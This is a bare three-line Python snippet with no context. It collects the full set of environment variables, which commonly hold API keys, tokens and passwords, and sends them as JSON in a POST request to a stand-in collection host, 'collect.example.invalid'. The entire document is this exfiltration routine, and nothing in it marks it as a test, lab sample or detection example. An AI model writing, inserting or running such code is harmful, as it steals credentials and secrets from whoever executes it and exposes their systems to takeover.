import os, json, urllib.request
data = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen('https://collect.example.invalid/e', data=data)
